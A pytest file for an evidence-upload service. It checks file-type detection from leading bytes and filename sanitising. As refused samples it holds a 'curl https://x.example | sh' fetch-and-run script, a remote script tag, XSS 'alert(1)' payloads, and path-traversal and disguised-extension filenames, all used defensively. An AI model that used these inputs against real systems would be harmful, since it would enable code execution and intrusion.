"""What the evidence log takes, judged from a file's first bytes, and what it makes of a file's name."""

from __future__ import annotations

import io
import struct
import zipfile

import openpyxl
import pytest
from PIL import Image

from casefile.evidence import sniff
from casefile.evidence.blobs import HEAD_BYTES
from casefile.evidence.services import clean_filename

NOISE = bytes(range(256)) * 4  # deterministic binary filler


def image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(out, fmt)
    return out.getvalue()


def iso_media(brand: bytes, compatible: bytes) -> bytes:
    """An ISO base media file (MP4, QuickTime, HEIC, M4A): an ftyp box, then a free box."""
    box = b"ftyp" + brand + bytes(4) + compatible + brand
    return struct.pack(">I", len(box) + 4) + box + b"\x00\x00\x00\x08free" + NOISE


def riff(form: bytes, first_chunk: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", 4 + len(first_chunk) + len(NOISE)) + form + first_chunk + NOISE


def zipped(entries: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=method)
    return out.getvalue()


def xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Тізім"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


WAV_FMT = b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16) + b"data" + struct.pack("<I", 1024)
AVI_HEADER = b"LIST" + struct.pack("<I", 200) + b"hdrlavih" + struct.pack("<I", 56)
WEBM = bytes.fromhex("1a45dfa3" "9f" "4286810142f7810142f2810442f3810842828477656" "26d4287810442858102") + NOISE
MP3_FRAME = b"\xff\xfb\x90\x64" + bytes(413)

ACCEPTED = [
    ("jpeg", image("JPEG"), "image/jpeg"),
    ("png", image("PNG"), "image/png"),
    ("webp", image("WEBP"), "image/webp"),
    ("tiff", image("TIFF"), "image/tiff"),
    ("heic", iso_media(b"heic", b"mif1"), "image/heic"),
    ("heic whose main brand is mif1", iso_media(b"mif1", b"heic"), "image/heic"),
    ("avif", iso_media(b"avif", b"mif1"), "image/avif"),
    ("mp4", iso_media(b"isom", b"mp41"), "video/mp4"),
    ("mov", iso_media(b"qt  ", b"qt  "), "video/quicktime"),
    ("m4a", iso_media(b"M4A ", b"mp42"), "audio/mp4"),
    ("3gp from an Android phone", iso_media(b"3gp4", b"isom"), "video/3gpp"),
    ("mp4 from an Android phone", iso_media(b"mp42", b"isom"), "video/mp4"),
    ("webm", WEBM, "video/webm"),
    ("ogg", b"OggS\x00\x02" + bytes(20) + b"\x01\x1e\x01vorbis" + NOISE, "audio/ogg"),
    ("wav", riff(b"WAVE", WAV_FMT), "audio/wav"),
    ("mp3 with ID3", b"ID3\x03\x00\x00\x00\x00\x00\x0a" + bytes(10) + MP3_FRAME, "audio/mpeg"),
    ("mp3 without ID3", MP3_FRAME * 3, "audio/mpeg"),
    ("amr voice message", b"#!AMR\n" + NOISE, "audio/amr"),
    ("flac", b"fLaC\x00\x00\x00\x22" + NOISE, "audio/flac"),
    ("avi", riff(b"AVI ", AVI_HEADER), "video/x-msvideo"),
    ("pdf", b"%PDF-1.4\n" + NOISE, "application/pdf"),
    ("xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("docx", zipped([("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", b"<Relationships/>"),
                     ("word/document.xml", b"<w:document/>")]),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("odt", zipped([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<office/>")],
                   stored_first=True), "application/vnd.oasis.opendocument.text"),
    ("doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + NOISE, "application/msword"),
    ("rtf", b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} \\f0 Hat}", "application/rtf"),
    ("utf-8 text", "Менің ағам 2018 жылы ұсталды.\r\nҚұлжа, Іле.\n".encode(), "text/plain"),
    ("utf-8 text with BOM", "\ufeffАпам хабарласты.\n".encode(), "text/plain"),
    ("cp1251 text", "Мой брат был задержан в 2018 году в Урумчи. Письмо от сестры.\n".encode("cp1251"),
     "text/plain"),
    ("utf-8 cut inside a character", ("Ұ" * (HEAD_BYTES // 2))[: HEAD_BYTES].encode()[: HEAD_BYTES - 1],
     "text/plain"),
]


@pytest.mark.parametrize(("content", "mime"), [(content, mime) for _, content, mime in ACCEPTED],
                         ids=[name for name, _, _ in ACCEPTED])
def test_accepted_formats_are_named_by_their_content(content: bytes, mime: str) -> None:
    assert sniff.detect(content[:HEAD_BYTES]).mime == mime


WEB_OR_PROGRAM = "Programs, scripts, web pages"
ARCHIVE = "Archives are not accepted"
UNKNOWN = "not recognised"

REFUSED = [
    ("html", b"<!DOCTYPE html><html><body>Hat</body></html>", WEB_OR_PROGRAM),
    ("html after whitespace", b"\r\n\n   \t<html><script>alert(1)</script></html>", WEB_OR_PROGRAM),
    ("script after text", b"Dear committee,\nplease see below.\n<script src=//x.example/a.js></script>",
     WEB_OR_PROGRAM),
    ("iframe after text", b"see this: <IFRAME src=https://x.example/>", WEB_OR_PROGRAM),
    ("html with a BOM", b"\xef\xbb\xbf<html><body onload=alert(1)>", WEB_OR_PROGRAM),
    ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', WEB_OR_PROGRAM),
    ("svg with an xml declaration", b'<?xml version="1.0" encoding="UTF-8"?>\n'
                                    b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
     WEB_OR_PROGRAM),
    ("elf", b"\x7fELF\x02\x01\x01" + bytes(9) + NOISE, WEB_OR_PROGRAM),
    ("pe", b"MZ\x90\x00\x03" + bytes(59) + NOISE, WEB_OR_PROGRAM),
    ("mach-o", b"\xcf\xfa\xed\xfe" + NOISE, WEB_OR_PROGRAM),
    ("shell script", b"#!/bin/sh\ncurl https://x.example | sh\n", WEB_OR_PROGRAM),
    ("wasm", b"\x00asm\x01\x00\x00\x00" + NOISE, WEB_OR_PROGRAM),
    ("zip", zipped([("scan1.jpg", image("JPEG")), ("notes.txt", b"hello")]), ARCHIVE),
    ("zip whose mimetype is not OpenDocument", zipped([("mimetype", b"application/x-foo")], stored_first=True),
     ARCHIVE),
    ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + NOISE, ARCHIVE),
    ("gzip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + NOISE, ARCHIVE),
    ("rar", b"Rar!\x1a\x07\x01\x00" + NOISE, ARCHIVE),
    ("rar 4", b"Rar!\x1a\x07\x00" + NOISE, ARCHIVE),
    ("random bytes", bytes((i * 7919 + 13) % 251 for i in range(4096)), UNKNOWN),
    ("utf-16 html", "<html><script>x</script>".encode("utf-16"), UNKNOWN),
    ("text with control characters", b"abc\x00\x01\x02def" * 20, UNKNOWN),
    ("empty", b"", "empty"),
]


@pytest.mark.parametrize(("content", "reason"), [(content, reason) for _, content, reason in REFUSED],
                         ids=[name for name, _, _ in REFUSED])
def test_refused_content_says_why(content: bytes, reason: str) -> None:
    with pytest.raises(sniff.Refused) as refused:
        sniff.detect(content[:HEAD_BYTES])
    assert reason in str(refused.value)


@pytest.mark.parametrize(("raw", "expected"), [
    ("Хат.pdf", "Хат.pdf"),
    ("../../etc/passwd", "passwd"),
    ("/var/www/index.pdf", "index.pdf"),
    ("C:\\Users\\Айгүл\\Desktop\\scan 1.jpg", "scan 1.jpg"),
    ("..\\..\\boot.ini", "boot.ini"),
    ("invoice\u202egpj.exe", "invoicegpj.exe"),
    ("pass\u200bport\u200d\ufeff.jpg", "passport.jpg"),
    ("a\x00b.pdf", "ab.pdf"),
    ("line\nbreak\r.txt", "linebreak.txt"),
    (".htaccess", "htaccess"),
    ("...hidden.pdf", "hidden.pdf"),
    ("  many   spaces \t here.pdf  ", "many spaces here.pdf"),
    ("", "file"),
    (None, "file"),
    ("...", "file"),
    ("dir/", "file"),
    ("\u202e\u200b", "file"),
])
def test_a_file_name_is_kept_as_harmless_metadata(raw: str | None, expected: str) -> None:
    assert clean_filename(raw) == expected


def test_a_long_file_name_is_cut_to_200_characters() -> None:
    name = "ұ" * 300 + ".pdf"
    cleaned = clean_filename(name)
    assert len(cleaned) <= 200 and cleaned.startswith("ұ" * 150)
    assert clean_filename("a" * 199 + "/" + "b" * 300) == "b" * 200
